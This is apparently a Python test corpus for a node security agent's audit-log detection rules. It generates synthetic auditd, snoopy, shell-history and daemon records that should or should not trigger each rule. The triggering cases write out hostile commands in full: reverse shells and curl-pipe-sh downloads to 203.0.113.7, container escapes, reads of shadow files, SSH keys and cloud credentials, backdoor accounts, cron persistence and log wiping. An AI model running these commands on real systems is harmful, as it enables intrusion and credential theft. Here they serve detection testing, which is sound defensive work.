# ruff: noqa: E501  (corpus lines are kept whole, as the sources write them)
"""The corpus that keeps the audit rules honest: for each command-level rule, lines that must fire
it (from different sources) and near misses that must not, plus a normal node's day that must
raise no alert (a mark of severity other than ``info``). Precision and recall per category go
to docs/filters.md: ``python -m tests.audit_corpus`` rewrites that table, and
tests/test_audit_corpus.py fails when it is stale.

Sources, each as the agent sees it:
- ``auditd``: kernel audit lines (as auditd 3 writes them to audit.log, or forwarded by
  audisp-syslog with ``node=``) joined by the ``auditd`` filter; ``container_id`` as the cgroup
  lookup would set it for a process in a container (attribution is tested on its own),
- ``snoopy``: snoopy's exec log in its old and new default formats,
- ``history``: a PROMPT_COMMAND hook, ``logger -t bash "$USER [$$]: $(history 1 | sed ...) [$?]"``,
- daemon lines: containerd, CRI-O, dockerd, sudo, su, cron, systemd, sshd, kubelet, Falco.
"""

from __future__ import annotations

import logging
import shlex
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

from agent.filters.auditd import AuditdConfig, AuditdFilter
from agent.filters.base import FilterContext
from tests.doubles import RecordingMetrics

Record = dict[str, Any]

CID = "3d1b8a1c8e0f5b7a9c2d4e6f8a0b1c3d5e7f9a1b3c5d7e9f0a2b4c6d8e0f1a2b"
CID2 = "9f8e7d6c5b4a39281706f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a09"
SA_TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"

CATEGORIES: dict[str, list[str]] = {
    "shells and exec in containers": [
        "container-exec-shell", "container-exec", "docker-exec", "kubectl-exec",
        "container-shell-spawned", "container-interactive-shell",
    ],
    "package managers in containers": [
        "container-package-manager", "package-manager-exec", "container-package-install",
    ],
    "reverse shells, download and run": ["reverse-shell", "download-execute"],
    "namespace and host escapes": [
        "nsenter-host", "unshare-user-namespace", "chroot-host", "container-escape-mount",
        "runtime-socket-access",
    ],
    "setuid and setgid": ["setuid-bit"],
    "secrets and credentials": [
        "sensitive-file-access", "service-account-token-read", "shadow-read",
        "ssh-private-key-read", "cloud-credentials-read", "kubernetes-secrets-read",
    ],
    "persistence": ["crontab-change", "systemd-unit-persistence", "authorized-keys-change"],
    "privilege changes": [
        "sudo-command", "sudo-failure", "su-session", "su-failure", "root-shell", "sudo-root-shell",
        "user-group-change", "user-group-change-audit", "user-management-command",
        "user-management-audit-event",
    ],
    "SSH on the node": [
        "ssh-root-login", "ssh-login", "ssh-auth-failure-burst", "ssh-auth-failure",
        "ssh-invalid-user",
    ],
    "tampering with logs and history": ["history-tampering", "log-tampering"],
}  # fmt: skip

# ------------------------------------------------------------------ sources

_serial = [7000]


def _arg(value: str) -> str:
    """An EXECVE argument as the kernel writes it: quoted, or hex when it holds a space, a
    quote, a control character or a non-ASCII byte."""
    raw = value.encode()
    if any(b <= 0x20 or b >= 0x7F or b == 0x22 for b in raw):
        return raw.hex().upper()
    return f'"{value}"'


def _join(records: list[Record]) -> Record:
    f = AuditdFilter(
        AuditdConfig(containers=False),
        FilterContext(name="auditd.0", logger=logging.getLogger("corpus"), metrics=RecordingMetrics()),
    )
    out = [r for _, batch in f.process("auditd", records) for r in batch]
    out += [r for _, batch in f.close() for r in batch]
    assert len(out) == 1, out
    return out[0]


def audit(
    command: str | list[str],
    container: str | None = CID,
    uid: int = 0,
    auid: int = 4294967295,
    tty: str = "(none)",
    cwd: str = "/",
    forwarded: bool = False,
) -> Record:
    """An exec event as auditd logs it, joined by the auditd filter."""
    argv = shlex.split(command) if isinstance(command, str) else command
    _serial[0] += 1
    head = f"msg=audit(1796563400.{_serial[0] % 1000:03d}:{_serial[0]}):"
    exe = argv[0] if argv[0].startswith("/") else f"/usr/bin/{argv[0].lstrip('-')}"
    comm = exe.rsplit("/", 1)[-1][:15]
    ses = 4294967295 if auid == 4294967295 else 7
    lines = [
        f"type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 "
        f"a2=55d2 a3=0 items=2 ppid=4100 pid={_serial[0]} auid={auid} uid={uid} gid={uid} "
        f"euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={tty} "
        f'ses={ses} comm="{comm}" exe="{exe}" key="exec"',
        f"type=EXECVE {head} argc={len(argv)} "
        + " ".join(f"a{i}={_arg(a)}" for i, a in enumerate(argv)),
        f'type=CWD {head} cwd="{cwd}"',
        f'type=PATH {head} item=0 name="{argv[0]}" inode=1 dev=fe:00 mode=0100755 ouid=0 '
        "ogid=0 rdev=00:00 nametype=NORMAL",
        f"type=PROCTITLE {head} proctitle=" + "\0".join(argv).encode()[:128].hex().upper(),
    ]
    if forwarded:
        records = [
            {"host": "worker-1", "ident": "audisp-syslog", "message": f"node=worker-1 {line}"}
            for line in lines
        ]
    else:
        records = [{"message": line} for line in lines]
    event = _join(records)
    if container is not None:
        event["container_id"] = container
    return event


def audit_user(kind: str, fields: str, inner: str, forwarded: bool = False) -> Record:
    """A user-space audit record (PAM, shadow utils) joined by the auditd filter."""
    _serial[0] += 1
    line = f"type={kind} msg=audit(1796563400.{_serial[0] % 1000:03d}:{_serial[0]}): {fields} msg='{inner}'"
    if forwarded:
        return _join([{"host": "worker-1", "ident": "audisp-syslog", "message": line}])
    return _join([{"message": line}])


def log(ident: str, message: str, **extra: Any) -> Record:
    """A syslog record as the syslog parser makes it."""
    return {"time": "2026-12-06T13:23:20.000000Z", "host": "worker-1", "ident": ident,
            "message": message, **extra}  # fmt: skip


def snoopy(command: str, new_format: bool = False, user: str = "root", uid: int = 0) -> Record:
    if new_format:
        head = (
            f"[login:{user} ssh:(10.0.0.5 51514 10.0.0.21 22) sid:4100 tty:/dev/pts/0 "
            f"({uid}/{user}) uid:{user}({uid})/{user}({uid}) cwd:/home/{user}]"
        )
    else:
        program = shlex.split(command)[0]
        filename = program if program.startswith("/") else f"/usr/bin/{program}"
        head = f"[uid:{uid} sid:4100 tty:/dev/pts/0 cwd:/root filename:{filename}]"
    return log("snoopy", f"{head}: {command}")


def history(command: str, user: str = "root", rc: int | None = 0, ident: str = "bash") -> Record:
    tail = "" if rc is None else f" [{rc}]"
    return log(ident, f"{user} [4100]: {command}{tail}")


def containerd_exec(command: str, tty: bool = True, sync: bool = False) -> Record:
    call = "ExecSync" if sync else "Exec"
    rest = (
        " and timeout 1 (s)"
        if sync
        else f" and tty {str(tty).lower()} and stdin {str(tty).lower()}"
    )
    return log(
        "containerd",
        f'time="2026-12-06T13:23:20.100000000Z" level=debug msg="{call} for \\"{CID}\\" '
        f'with command [{command}]{rest}"',
    )


def crio_exec(command: str, tty: bool = True) -> Record:
    args = " ".join(command.split())
    return log(
        "crio",
        f'time="2026-12-06 13:23:20.100000000Z" level=debug msg="Request: &ExecRequest'
        f"{{ContainerId:{CID},Cmd:[{args}],Tty:{str(tty).lower()},Stdin:true,Stdout:true,"
        f'Stderr:false,}}" file="otel-collector/interceptors.go:62" id=5f0c2e8a name=/runtime.v1.RuntimeService/Exec',
    )


class Case(NamedTuple):
    rule: str
    fires: bool
    source: str
    record: Record


def _cases() -> list[Case]:
    cases: list[Case] = []

    def hit(rule: str, *pairs: tuple[str, Record]) -> None:
        cases.extend(Case(rule, True, source, record) for source, record in pairs)

    def miss(rule: str, *pairs: tuple[str, Record]) -> None:
        cases.extend(Case(rule, False, source, record) for source, record in pairs)

    # ------------------------------------------------ shells and exec in containers
    hit(
        "container-interactive-shell",
        ("auditd", audit("/bin/bash")),
        ("auditd via audisp-syslog", audit("sh", container=CID2, forwarded=True)),
        ("auditd", audit(["/bin/sh", "-i"], tty="pts0")),
        ("auditd", audit("/usr/bin/zsh -l")),
    )
    miss(
        "container-interactive-shell",
        ("auditd probe", audit(["sh", "-c", "cat /tmp/healthy"])),
        ("auditd script", audit("/bin/bash /docker-entrypoint.sh nginx -g daemon off;")),
        ("auditd on the host", audit("-bash", container=None, tty="pts0", auid=1001)),
        ("auditd", audit("/usr/bin/ssh-agent")),
    )
    hit(
        "container-exec-shell",
        ("containerd", containerd_exec("/bin/bash")),
        ("containerd", containerd_exec("sh")),
        ("CRI-O", crio_exec("bash")),
        ("containerd", containerd_exec("/bin/sh -i")),
    )
    miss(
        "container-exec-shell",
        ("containerd probe", containerd_exec("sh -c cat /tmp/healthy", sync=True)),
        ("containerd", containerd_exec("sh -c date", tty=False)),
        ("CRI-O", crio_exec("cat /etc/hostname", tty=False)),
        ("containerd", containerd_exec("/usr/bin/shred -u /tmp/x")),
    )

    # ------------------------------------------------ package managers in containers
    hit(
        "container-package-install",
        ("auditd", audit("apt-get install -y netcat-openbsd")),
        ("auditd via audisp-syslog", audit("apk add --no-cache socat", forwarded=True)),
        ("auditd", audit("/usr/bin/python3 -m pip install pyinstaller")),
        ("auditd", audit("yum -y install nmap")),
    )
    miss(
        "container-package-install",
        ("auditd", audit("apt-cache policy curl")),
        ("auditd", audit("pip --version")),
        ("auditd on the host", audit("apt-get install -y linux-image-amd64", container=None)),
        ("auditd", audit("dpkg -l")),
    )

    # ------------------------------------------------ reverse shells, download and run
    hit(
        "reverse-shell",
        ("auditd", audit(["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"])),
        ("snoopy", snoopy("nc -e /bin/sh 203.0.113.7 4444")),
        ("history", history("socat tcp-connect:203.0.113.7:4444 exec:/bin/bash,pty,stderr")),
        (
            "auditd",
            audit(
                [
                    "python3",
                    "-c",
                    "import socket,subprocess,os;s=socket.socket();"
                    "s.connect(('203.0.113.7',4444));os.dup2(s.fileno(),0);"
                    "subprocess.call(['/bin/sh','-i'])",
                ]
            ),
        ),
        (
            "history",
            history(
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f"
            ),
        ),
        (
            "snoopy",
            snoopy(
                """php -r '$sock=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");'""",
                new_format=True,
            ),
        ),
    )
    miss(
        "reverse-shell",
        ("auditd", audit("nc -zv 10.96.0.1 443")),
        ("history", history("curl -s http://10.0.0.8:8080/healthz")),
        ("snoopy", snoopy("socat - UNIX-CONNECT:/run/app/app.sock")),
        ("auditd", audit(["python3", "-c", "import socket; print(socket.gethostname())"])),
    )
    hit(
        "download-execute",
        ("auditd", audit(["sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh"])),
        ("history", history("wget -qO- http://203.0.113.7/m | bash")),
        (
            "snoopy",
            snoopy(
                """bash -c 'wget http://203.0.113.7/kd -O /tmp/kd && chmod +x /tmp/kd && /tmp/kd'"""
            ),
        ),
        ("history", history("echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvYQ== | base64 -d | sh")),
    )
    miss(
        "download-execute",
        (
            "auditd",
            audit(
                "curl -fsSLo /tmp/kubectl https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl"
            ),
        ),
        ("history", history("curl -s https://api.github.com/repos/x/y | jq .tag_name")),
        ("snoopy", snoopy("wget -q https://example.com/archive.tar.gz")),
        ("history", history("cat script.sh | grep curl")),
    )

    # ------------------------------------------------ namespace and host escapes
    hit(
        "nsenter-host",
        ("auditd", audit("nsenter -t 1 -m -u -i -n -p -- bash")),
        ("history", history("nsenter --target 1 --mount --uts --ipc --net --pid sh")),
        ("snoopy", snoopy("/usr/bin/nsenter --mount=/proc/1/ns/mnt -- /bin/bash")),
        ("auditd", audit("nsenter -a -t 1 sh")),
    )
    miss(
        "nsenter-host",
        (
            "auditd on the host",
            audit("nsenter --net=/var/run/netns/cni-5f0c2e8a ip addr", container=None),
        ),
        ("history", history("man nsenter")),
        ("snoopy", snoopy("nsenter -t 4242 -n ss -tlnp")),
        ("auditd", audit("ip netns exec cni-1 ip route")),
    )
    hit(
        "unshare-user-namespace",
        ("auditd", audit("unshare -Ur sh")),
        ("history", history("unshare --user --map-root-user --mount bash")),
        ("snoopy", snoopy("unshare -r -m sh -c 'mount -t cgroup -o rdma cgroup /mnt'")),
    )
    miss(
        "unshare-user-namespace",
        ("auditd", audit("unshare --help")),
        ("history", history("unshare -m --propagation private sleep 1")),
        ("snoopy", snoopy("unshare -n ping -c1 127.0.0.1")),
    )
    hit(
        "chroot-host",
        ("auditd", audit("chroot /host /bin/bash")),
        ("history", history("chroot /proc/1/root sh")),
        ("snoopy", snoopy("chroot /rootfs")),
        ("auditd via audisp-syslog", audit("/usr/sbin/chroot /host", forwarded=True)),
    )
    miss(
        "chroot-host",
        ("auditd", audit("chroot /srv/jail /bin/true")),
        ("history", history("arch-chroot /mnt")),
        ("snoopy", snoopy("ls /host/etc")),
    )
    hit(
        "container-escape-mount",
        ("auditd", audit("mount /dev/sda1 /mnt")),
        (
            "auditd via audisp-syslog",
            audit("mount -t cgroup -o memory cgroup /tmp/cgrp", container=CID2, forwarded=True),
        ),
        ("auditd", audit(["sh", "-c", "echo /cmd > /tmp/cgrp/release_agent"])),
        ("auditd", audit("mount /dev/nvme0n1p1 /mnt/host")),
    )
    miss(
        "container-escape-mount",
        (
            "auditd on the host",
            audit(
                "mount -t tmpfs -o size=64M tmpfs /var/lib/kubelet/pods/x/volumes/kubernetes.io~projected/kube-api-access-x",
                container=None,
            ),
        ),
        ("auditd on the host", audit("mount /dev/sdb1 /data", container=None)),
        ("auditd", audit("mount")),
        ("auditd", audit("cat /proc/self/mountinfo")),
    )
    hit(
        "runtime-socket-access",
        (
            "auditd",
            audit("curl --unix-socket /var/run/docker.sock http://localhost/containers/json"),
        ),
        (
            "history",
            history("docker -H unix:///var/run/docker.sock run -v /:/host --privileged -it alpine"),
        ),
        ("snoopy", snoopy("ctr --address /run/containerd/containerd.sock -n k8s.io containers ls")),
        ("auditd", audit("socat - UNIX-CONNECT:/var/run/crio/crio.sock")),
    )
    miss(
        "runtime-socket-access",
        (
            "auditd on the host",
            audit(
                "/usr/bin/kubelet --container-runtime-endpoint=unix:///run/containerd/containerd.sock --config=/var/lib/kubelet/config.yaml",
                container=None,
            ),
        ),
        (
            "auditd on the host",
            audit(
                "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 5f0c2e8a -address /run/containerd/containerd.sock",
                container=None,
            ),
        ),
        ("history", history("crictl --runtime-endpoint unix:///run/containerd/containerd.sock ps")),
        ("snoopy", snoopy("ls -l /var/run/docker.sock")),
    )

    # ------------------------------------------------ setuid and setgid
    hit(
        "setuid-bit",
        ("auditd", audit("chmod u+s /tmp/bash")),
        ("history", history("chmod 4755 /tmp/rootsh")),
        ("snoopy", snoopy("chmod g+s /usr/local/bin/tool")),
        ("auditd", audit("install -m 4755 -o root /tmp/x /usr/local/bin/x")),
    )
    miss(
        "setuid-bit",
        ("auditd", audit("chmod 755 /usr/local/bin/app")),
        ("history", history("chmod 1777 /tmp/shared")),
        ("snoopy", snoopy("chmod +x ./run.sh")),
        ("auditd", audit("install -m 0644 app.conf /etc/app/")),
    )

    # ------------------------------------------------ secrets and credentials
    hit(
        "service-account-token-read",
        ("auditd", audit(f"cat {SA_TOKEN}")),
        (
            "history",
            history(
                f'TOKEN=$(cat {SA_TOKEN}); curl -k -H "Authorization: Bearer $TOKEN" https://kubernetes.default/api'
            ),
        ),
        (
            "snoopy",
            snoopy(
                "cat /var/lib/kubelet/pods/5f0c2e8a-2a51-4c7e-9d0b-6c3f3d1e9a11/volumes/kubernetes.io~projected/kube-api-access-7xk2p/token"
            ),
        ),
        (
            "auditd",
            audit(
                "base64 /run/secrets/kubernetes.io/serviceaccount/..2026_12_06_13_00_00.123/token"
            ),
        ),
    )
    miss(
        "service-account-token-read",
        ("auditd", audit("ls /var/run/secrets/kubernetes.io/serviceaccount")),
        ("history", history("cat /var/run/secrets/kubernetes.io/serviceaccount/namespace")),
        ("snoopy", snoopy("cat /var/run/secrets/kubernetes.io/serviceaccount/ca.crt")),
    )
    hit(
        "shadow-read",
        ("auditd", audit("cat /etc/shadow")),
        ("history", history("cp /etc/shadow /tmp/s")),
        ("snoopy", snoopy("grep root /etc/shadow", new_format=True)),
        ("auditd", audit("unshadow /etc/passwd /etc/shadow")),
    )
    miss(
        "shadow-read",
        ("auditd", audit("ls -l /etc/shadow")),
        ("history", history("passwd alice")),
        ("snoopy", snoopy("chmod 640 /etc/shadow")),
        ("auditd", audit("cat /etc/shadow.conf")),
    )
    hit(
        "ssh-private-key-read",
        ("auditd", audit("cat /root/.ssh/id_rsa")),
        ("history", history("scp ~/.ssh/id_ed25519 attacker@203.0.113.7:")),
        ("snoopy", snoopy("base64 /etc/ssh/ssh_host_ed25519_key")),
    )
    miss(
        "ssh-private-key-read",
        ("auditd", audit("cat /root/.ssh/id_rsa.pub")),
        ("history", history("ssh -i ~/.ssh/id_ed25519 admin@10.0.0.9")),
        ("snoopy", snoopy("ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub")),
    )
    hit(
        "cloud-credentials-read",
        (
            "auditd",
            audit(
                "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role"
            ),
        ),
        (
            "history",
            history(
                "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"
            ),
        ),
        ("snoopy", snoopy("cat /root/.aws/credentials")),
        (
            "auditd",
            audit(
                [
                    "curl",
                    "-H",
                    "Metadata:true",
                    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/",
                ]
            ),
        ),
    )
    miss(
        "cloud-credentials-read",
        ("auditd", audit("curl -s http://169.254.169.254/latest/meta-data/instance-id")),
        ("history", history("cat ~/.aws/config")),
        ("snoopy", snoopy("aws s3 ls s3://backups")),
    )
    hit(
        "kubernetes-secrets-read",
        ("auditd", audit("kubectl get secrets -A -o yaml")),
        (
            "history",
            history(
                "kubectl -n kube-system get secret bootstrap-token-abcdef -o jsonpath={.data.token-secret}"
            ),
        ),
        ("snoopy", snoopy("cat /etc/kubernetes/admin.conf")),
        ("auditd", audit("cp /etc/kubernetes/pki/ca.key /tmp/")),
    )
    miss(
        "kubernetes-secrets-read",
        ("auditd", audit("kubectl get pods -A")),
        ("history", history("kubectl get secrets -n app")),
        ("snoopy", snoopy("kubectl --kubeconfig /etc/kubernetes/admin.conf get nodes")),
    )

    # ------------------------------------------------ persistence
    hit(
        "crontab-change",
        ("crontab", log("crontab", "(root) REPLACE (root)")),
        ("crontab", log("crontab", "(alice) BEGIN EDIT (alice)")),
        ("cron", log("cron", "(root) RELOAD (crontabs/root)")),
        ("auditd", audit("crontab /tmp/c")),
        (
            "history",
            history(
                'echo "* * * * * curl -s http://203.0.113.7/x|sh" >> /var/spool/cron/crontabs/root'
            ),
        ),
        ("snoopy", snoopy("crontab -r")),
    )
    miss(
        "crontab-change",
        ("CRON", log("CRON", "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)")),
        ("crontab", log("crontab", "(root) LIST (root)")),
        ("cron", log("cron", "(*system*) RELOAD (/etc/crontab)")),
        ("auditd", audit("crontab -l")),
        ("history", history("cat /etc/cron.d/e2scrub_all")),
    )
    hit(
        "systemd-unit-persistence",
        (
            "systemd",
            log(
                "systemd",
                "Created symlink /etc/systemd/system/multi-user.target.wants/kworker.service → /etc/systemd/system/kworker.service.",
            ),
        ),
        ("auditd", audit("systemctl enable --now kworker.service", container=None)),
        ("history", history("cp /tmp/kworker.service /etc/systemd/system/kworker.service")),
        ("snoopy", snoopy("tee /etc/systemd/system/update.timer")),
    )
    miss(
        "systemd-unit-persistence",
        (
            "systemd",
            log("systemd", "Started kubelet.service - kubelet: The Kubernetes Node Agent."),
        ),
        ("auditd", audit("systemctl restart containerd", container=None)),
        ("history", history("systemctl daemon-reload")),
        ("snoopy", snoopy("cat /etc/systemd/system/kubelet.service")),
    )
    hit(
        "authorized-keys-change",
        (
            "auditd",
            audit(
                ["sh", "-c", "echo ssh-ed25519 AAAAC3Nza attacker >> /root/.ssh/authorized_keys"]
            ),
        ),
        ("history", history("cat /tmp/k.pub >> ~/.ssh/authorized_keys")),
        ("snoopy", snoopy("ssh-copy-id -i /tmp/k.pub root@10.0.0.9")),
        ("auditd", audit("cp /tmp/keys /home/alice/.ssh/authorized_keys", container=None)),
    )
    miss(
        "authorized-keys-change",
        ("auditd", audit("cat /root/.ssh/authorized_keys")),
        ("history", history("wc -l ~/.ssh/authorized_keys")),
        ("snoopy", snoopy("ssh-keygen -lf /root/.ssh/authorized_keys")),
    )

    # ------------------------------------------------ privilege changes
    hit(
        "root-shell",
        ("auditd", audit("sudo -i", container=None, uid=1000, auid=1000, tty="pts0")),
        ("history", history("sudo su -", user="alice")),
        ("snoopy", snoopy("su -", user="alice", uid=1000, new_format=True)),
        (
            "auditd (PAM)",
            audit_user(
                "USER_START",
                "pid=5000 uid=1000 auid=1000 ses=3",
                'op=PAM:session_open grantors=pam_rootok acct="root" exe="/usr/bin/su" hostname=? addr=? terminal=/dev/pts/0 res=success',
            ),
        ),
    )
    miss(
        "root-shell",
        ("auditd", audit("sudo systemctl restart kubelet", container=None, uid=1000, auid=1000)),
        ("history", history("sudo -l", user="alice")),
        ("snoopy", snoopy("su alice -c id")),
        (
            "auditd (PAM)",
            audit_user(
                "USER_START",
                "pid=5000 uid=0 auid=1000 ses=3",
                'op=PAM:session_open grantors=pam_unix acct="postgres" exe="/usr/bin/su" hostname=? addr=? terminal=/dev/pts/0 res=success',
            ),
        ),
    )
    hit("sudo-root-shell",
        ("sudo", log("sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash")),
        ("sudo", log("sudo", "alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/su -")),
        ("sudo", log("sudo", "    bob : PWD=/srv ; USER=root ; COMMAND=/bin/sh")))  # fmt: skip
    miss("sudo-root-shell",
         ("sudo", log("sudo", "ansible : PWD=/home/ansible ; USER=root ; COMMAND=/bin/sh -c echo BECOME-SUCCESS-kq ; /usr/bin/python3")),
         ("sudo", log("sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=postgres ; COMMAND=/bin/bash")),
         ("sudo", log("sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/bashtop")))  # fmt: skip
    hit(
        "user-management-command",
        ("auditd", audit("useradd -m -s /bin/bash -G sudo backdoor", container=None)),
        ("history", history("usermod -aG docker mallory")),
        ("snoopy", snoopy("echo 'mallory ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers.d/90-cloud")),
        ("auditd", audit(["sh", "-c", "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd"])),
    )
    miss(
        "user-management-command",
        ("auditd", audit("id alice")),
        ("history", history("getent passwd alice")),
        ("snoopy", snoopy("cat /etc/passwd")),
        ("auditd", audit("grep -c sudo /etc/group")),
    )
    hit(
        "user-management-audit-event",
        (
            "auditd",
            audit_user(
                "ADD_USER",
                "pid=4242 uid=0 auid=1000 ses=3",
                'op=adding user id=1001 exe="/usr/sbin/useradd" hostname=worker-1 addr=? terminal=pts/0 res=success',
            ),
        ),
        (
            "auditd via audisp-syslog",
            audit_user(
                "USER_MGMT",
                "pid=4243 uid=0 auid=1000 ses=3",
                'op=add-user-to-group grp="sudo" acct="mallory" exe="/usr/sbin/usermod" hostname=worker-1 addr=? terminal=pts/0 res=success',
                forwarded=True,
            ),
        ),
        (
            "auditd",
            audit_user(
                "USER_CHAUTHTOK",
                "pid=4244 uid=0 auid=1000 ses=3",
                'op=PAM:chauthtok grantors=pam_unix acct="root" exe="/usr/bin/passwd" hostname=worker-1 addr=? terminal=pts/0 res=success',
            ),
        ),
    )
    miss(
        "user-management-audit-event",
        (
            "auditd",
            audit_user(
                "USER_LOGIN",
                "pid=4242 uid=0 auid=1000 ses=3",
                'op=login id=1000 exe="/usr/sbin/sshd" hostname=10.0.0.5 addr=10.0.0.5 terminal=/dev/pts/0 res=success',
            ),
        ),
        (
            "auditd",
            audit_user(
                "USER_ACCT",
                "pid=4245 uid=0 auid=1001 ses=9",
                'op=PAM:accounting grantors=pam_permit acct="ansible" exe="/usr/sbin/sshd" hostname=10.0.0.5 addr=10.0.0.5 terminal=ssh res=success',
            ),
        ),
        ("auditd", audit("usermod --help")),
    )

    # ------------------------------------------------ tampering with logs and history
    hit(
        "history-tampering",
        ("history", history("history -c")),
        ("auditd", audit("rm -f /root/.bash_history")),
        ("snoopy", snoopy("ln -sf /dev/null /root/.bash_history")),
        ("history", history("unset HISTFILE", user="alice")),
        ("history", history("export HISTFILE=/dev/null")),
    )
    miss(
        "history-tampering",
        ("history", history("history | grep kubectl")),
        ("auditd", audit("cat /root/.bash_history")),
        ("snoopy", snoopy("echo $HISTFILE")),
    )
    hit(
        "log-tampering",
        ("auditd", audit("rm -rf /var/log/audit", container=None)),
        ("history", history("cat /dev/null > /var/log/auth.log")),
        ("snoopy", snoopy("truncate -s 0 /var/log/syslog")),
        ("auditd", audit("auditctl -D", container=None)),
        ("history", history("systemctl stop auditd")),
        ("snoopy", snoopy("journalctl --vacuum-time=1s")),
    )
    miss(
        "log-tampering",
        ("history", history("tail -f /var/log/syslog")),
        ("auditd", audit("logrotate /etc/logrotate.conf", container=None)),
        ("snoopy", snoopy("ls -la /var/log/")),
        ("auditd", audit("auditctl -l", container=None)),
        ("history", history("journalctl -u kubelet --since today")),
    )

    # ------------------------------------------------ the daemon-line rules (older defaults)
    def k8s_audit(stage: str, sub: str, user: str = "alice@example.com", verb: str = "create") -> str:
        return (
            '{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":'
            f'"5f0c2e8a-2a51-4c7e-9d0b-6c3f3d1e9a11","stage":"{stage}","requestURI":'
            f'"/api/v1/namespaces/app/pods/web-0/{sub}?command=sh&container=web&stdin=true&tty=true",'
            f'"verb":"{verb}","user":{{"username":"{user}","groups":["system:authenticated"]}},'
            '"sourceIPs":["10.0.0.5"],"userAgent":"kubectl/v1.31.0","objectRef":{"resource":"pods",'
            f'"namespace":"app","name":"web-0","apiVersion":"v1","subresource":"{sub}"}},'
            '"responseStatus":{"metadata":{},"code":101}}'
        )

    hit("container-exec",
        ("containerd", containerd_exec("cat /etc/hostname", tty=False)),
        ("CRI-O", crio_exec("env", tty=False)),
        ("containerd", log("containerd", f'time="2026-12-06T13:23:20.1Z" level=debug msg="Exec for \\"{CID}\\" with command [python3 -c import os], tty false and stdin false"')))
    miss("container-exec",
         ("containerd probe", containerd_exec("cat /tmp/healthy", sync=True)),
         ("containerd", log("containerd", f'time="2026-12-06T13:23:20.1Z" level=info msg="StartContainer for \\"{CID}\\" returns successfully"')),
         ("CRI-O", log("crio", 'time="2026-12-06 13:23:20.1Z" level=info msg="Removed container 3d1b8a1c8e0f: app/web-0/web" id=5f0c2e8a name=/runtime.v1.RuntimeService/RemoveContainer')))
    hit("docker-exec",
        ("dockerd", log("dockerd", 'time="2026-12-06T13:23:20.120361207Z" level=debug msg="Calling POST /v1.45/containers/web/exec"')),
        ("dockerd", log("dockerd", f'time="2026-12-06T13:23:20.2Z" level=debug msg="starting exec command 9f8e7d6c5b4a39281706f5e4d3c2b1a0f9e8d7c6b5a49382716f5e4d3c2b1a09 in container {CID}"')),
        ("docker", log("docker", 'time="2026-12-06T13:23:20.3Z" level=debug msg="Calling POST /v1.41/containers/3d1b8a1c8e0f/exec"')))
    miss("docker-exec",
         ("dockerd", log("dockerd", 'time="2026-12-06T13:23:20.1Z" level=debug msg="Calling GET /v1.45/containers/json"')),
         ("dockerd", log("dockerd", 'time="2026-12-06T13:23:20.1Z" level=debug msg="Calling POST /v1.45/containers/web/start"')),
         ("dockerd", log("dockerd", 'time="2026-12-06T13:23:20.1Z" level=info msg="ignoring event" container=3d1b8a1c8e0f module=libcontainerd namespace=moby topic=/tasks/delete')))
    hit("kubectl-exec",
        ("kube-apiserver audit", log("kube-apiserver-audit", k8s_audit("ResponseStarted", "exec"))),
        ("kube-apiserver audit", log("kube-apiserver-audit", k8s_audit("ResponseComplete", "attach", user="system:serviceaccount:ci:deployer"))),
        ("audit log file", {"message": k8s_audit("ResponseComplete", "exec", user="bob")}))
    miss("kubectl-exec",
         ("kube-apiserver audit", log("kube-apiserver-audit", k8s_audit("ResponseComplete", "log"))),
         ("kube-apiserver audit", log("kube-apiserver-audit", k8s_audit("RequestReceived", "exec"))),
         ("audit log file", {"message": k8s_audit("ResponseComplete", "portforward")}))
    hit("container-shell-spawned",
        ("falco", log("falco", "13:23:20.123456789: Notice A shell was spawned in a container with an attached terminal (evt_type=execve user=root user_uid=0 user_loginuid=-1 process=bash proc_exepath=/usr/bin/bash parent=runc command=bash terminal=34816 container_id=3d1b8a1c8e0f container_name=web)")),
        ("falco", log("falco", "13:23:21.000000000: Notice A shell was spawned in a container with an attached terminal (user=root user_loginuid=-1 k8s.ns=app k8s.pod=web-0 container=3d1b8a1c8e0f shell=sh parent=runc cmdline=sh terminal=34816 container_id=3d1b8a1c8e0f image=nginx)")),
        ("falco", log("falco", "13:23:22.000000000: Notice A shell was spawned in a container with an attached terminal (evt_type=execve user=www-data user_uid=33 process=dash command=sh -i terminal=34817 container_id=9f8e7d6c5b4a)")))
    miss("container-shell-spawned",
         ("falco", log("falco", "Falco initialized with configuration files: /etc/falco/falco.yaml")),
         ("falco", log("falco", "13:23:20.1: Warning Sensitive file opened for reading by non-trusted program (file=/etc/shadow process=cat)")),
         ("falco", log("falco", "13:23:20.1: Notice Unexpected connection to K8s API Server from container (connection=10.0.0.5:51514->10.96.0.1:443)")))
    hit("container-package-manager",
        ("apt (container stdout)", log("web", "Setting up curl (7.88.1-10+deb12u5) ...", container_id="3d1b8a1c8e0f", container_name="web")),
